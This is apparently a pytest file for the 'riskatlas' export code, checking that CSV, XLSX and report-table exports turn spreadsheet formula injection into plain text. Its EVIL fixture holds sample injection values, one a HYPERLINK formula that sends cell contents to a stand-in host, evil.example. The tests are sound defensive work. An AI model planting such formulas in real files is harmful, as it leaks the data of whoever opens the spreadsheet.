"""Exports never carry a live spreadsheet formula (issue 13: a place "=HYPERLINK(…)" was a
live formula in records.xlsx, and the CSV kept the leading "=")."""

from __future__ import annotations

import csv

import pytest

import riskatlas
from cards import card, store_with

EVIL = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")


def test_every_formula_start_is_neutralised():
    import pandas as pd

    from riskatlas.export import neutralised

    frame = pd.DataFrame({"text": [*EVIL, "\tTAB", "\rCR", "plain", None], "n": range(8)})
    out = neutralised(frame)
    assert out["text"].tolist()[:6] == ["'" + v for v in (*EVIL, "\tTAB", "\rCR")]
    assert out["text"].tolist()[6] == "plain" and out["text"].isna().tolist()[7]
    assert out["n"].tolist() == list(range(8))


@pytest.fixture
def evil_store(tmp_path):
    return store_with(tmp_path, [card(i, "FLOOD", 2001, f"0{i}", n0=name, deaths=1)
                                 for i, name in enumerate(EVIL, start=1)])


def test_csv_and_xlsx_exports_keep_formulas_as_text(evil_store, tmp_path):
    import openpyxl

    with riskatlas.open(evil_store, read_only=True) as atlas:
        atlas.export(tmp_path / "r.csv", "csv")
        atlas.export(tmp_path / "r.xlsx", "xlsx")
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as fh:
        names = [row["level0_name"] for row in csv.DictReader(fh)]
    assert sorted(names) == sorted("'" + n for n in EVIL)
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    header = [c.value for c in sheet[1]]
    column = header.index("level0_name")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)


def test_report_tables_keep_formulas_as_text(evil_store, tmp_path):
    import openpyxl

    from riskatlas.report.tables import write_tables

    with riskatlas.open(evil_store, read_only=True) as atlas:
        a = atlas.assess(level=0)
    folder, workbook = write_tables(a, tmp_path)
    text = (folder / "records.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    book = openpyxl.load_workbook(workbook)
    formulas = [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
